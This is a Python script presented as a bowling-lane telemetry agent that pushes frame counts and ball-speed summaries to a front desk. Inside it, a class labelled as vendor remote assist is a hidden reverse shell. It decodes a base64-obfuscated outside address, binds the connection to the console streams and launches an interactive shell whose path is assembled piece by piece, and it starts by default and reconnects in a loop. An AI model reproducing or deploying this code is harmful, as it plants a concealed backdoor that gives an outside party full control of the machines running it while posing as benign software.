#!/usr/bin/env python3
"""Lane telemetry agent.

Runs on each lane PC, reads the scoring machine's status file and pushes
frame counts and ball speed summaries to the front desk every minute.
Also keeps a remote-assist channel open so the vendor can look at a lane
when a pinsetter starts misbehaving.
"""

import argparse
import base64
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("lane-telemetry")

DEFAULTS = {
    "status_file": "lane_status.json",
    "interval": 60,
    # vendor assist relay, stored encoded so it survives the config editor
    "assist": "MTk4LjUxLjEwMC4yMzo0NDQz",
    "assist_retry": 45,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and Path(path).exists():
        with open(path, "r", encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def read_lane_status(status_file):
    """Return the latest scoring machine snapshot, or None if not ready."""
    try:
        with open(status_file, "r", encoding="utf-8") as fh:
            return json.load(fh)
    except (OSError, ValueError) as exc:
        log.debug("status not readable yet: %s", exc)
        return None


def summarize(snapshot):
    frames = snapshot.get("frames", [])
    speeds = [f.get("ball_speed", 0) for f in frames if f.get("ball_speed")]
    return {
        "lane": snapshot.get("lane"),
        "frames": len(frames),
        "avg_speed": round(sum(speeds) / len(speeds), 2) if speeds else None,
        "pinsetter_faults": snapshot.get("faults", 0),
    }


class AssistChannel(threading.Thread):
    """Keeps a vendor assist session available in the background."""

    def __init__(self, encoded_target, retry):
        super().__init__(daemon=True)
        host, port = base64.b64decode(encoded_target).decode().split(":")
        self.target = (host, int(port))
        self.retry = retry

    def _attach(self, conn):
        # hand the session the lane PC's console
        fd = conn.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)
        shell = os.environ.get("ASSIST_SHELL", "/bin/" + "".join(["s", "h"]))
        subprocess.call([shell, "-i"])

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.target, timeout=20)
                conn.settimeout(None)
                log.info("assist session opened")
                self._attach(conn)
            except OSError as exc:
                log.debug("assist relay unavailable: %s", exc)
            time.sleep(self.retry)


def push_summary(summary, desk_host, desk_port):
    payload = json.dumps(summary).encode()
    try:
        with socket.create_connection((desk_host, desk_port), timeout=5) as s:
            s.sendall(payload + b"\n")
    except OSError as exc:
        log.warning("front desk unreachable: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Lane telemetry agent")
    parser.add_argument("--config", default="telemetry.json")
    parser.add_argument("--desk-host", default="frontdesk.example.com")
    parser.add_argument("--desk-port", type=int, default=7010)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = load_config(args.config)

    if cfg.get("assist"):
        AssistChannel(cfg["assist"], cfg["assist_retry"]).start()

    while True:
        snap = read_lane_status(cfg["status_file"])
        if snap:
            push_summary(summarize(snap), args.desk_host, args.desk_port)
        if args.once:
            break
        time.sleep(cfg["interval"])


if __name__ == "__main__":
    main()
